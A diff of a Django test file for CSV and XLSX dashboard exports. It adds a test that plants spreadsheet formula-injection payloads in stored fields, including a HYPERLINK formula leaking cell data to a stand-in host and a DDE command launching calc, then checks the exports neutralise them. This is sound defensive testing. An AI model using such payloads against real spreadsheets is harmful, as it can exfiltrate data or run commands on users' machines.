@@ -1,16 +1,14 @@
 """Exports of the matrix and the evidence behind the dashboard, as CSV and XLSX."""
 
-import csv
 import datetime
-import io
 
 import pytest
 from django.urls import reverse
-from openpyxl import load_workbook
 
 from evidence.models import Evidence
 
 from ..factories import EvidenceFactory
+from ..tables import formula_cells, read_download
 
 Rating, Status = Evidence.Rating, Evidence.Status
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -26,11 +24,10 @@ def url(table, fmt):
 
 
 def rows_of(response, fmt):
-    body = b"".join(response.streaming_content) if response.streaming else response.content
-    if fmt == "csv":
-        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
-    sheet = load_workbook(io.BytesIO(body), read_only=True).active
-    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
+    """The header and the rows of a download (after its title and notes)."""
+    assert response["Content-Type"].startswith("text/csv" if fmt == "csv" else XLSX_TYPE)
+    table = read_download(response)
+    return [table.header, *table.rows]
 
 
 @pytest.mark.parametrize("table", ["matrix", "evidence"])
@@ -146,3 +143,36 @@ def test_the_evidence_export_makes_the_same_queries_however_many_rows(
     with django_assert_max_num_queries(8) as many:
         assert len(rows_of(client.get(url("evidence", "csv")), "csv")) == 32
     assert len(many) == len(few)
+
+
+HOSTILE_VALUES = [
+    '\x01=HYPERLINK("http://evil.example/?"&A1,"x")',
+    '   =cmd|" /C calc"!A0',
+    "\t=1+1",
+    "+SUM(1,2)",
+    "@IMPORTXML(1)",
+    "Vertical\x0btab and C1\x85control",
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("hostile", HOSTILE_VALUES)
+def test_hostile_stored_text_never_becomes_a_formula_nor_breaks_an_export(
+    client_for, manager, niger, sub_1_1, fmt, hostile
+):
+    item = EvidenceFactory(country=niger, sub_objective=sub_1_1)
+    # Stored as the audit found them: written before the validator, so never checked.
+    Evidence.objects.filter(pk=item.pk).update(
+        title=hostile, description=hostile, source_citation=hostile
+    )
+    sub_1_1.__class__.objects.filter(pk=sub_1_1.pk).update(short_title=hostile)
+    client = client_for(manager)
+    for table in ("evidence", "matrix"):
+        response = client.get(url(table, fmt))
+        assert response.status_code == 200
+        download = read_download(response)
+        values = [str(v) for line in [download.header, *download.rows] for v in line]
+        assert not any(v.lstrip().startswith(("=", "+", "-", "@")) for v in values), values
+        assert not any(c in v for v in values for c in "\x01\x0b\x85")
+        if fmt == "xlsx":
+            assert formula_cells(download) == []
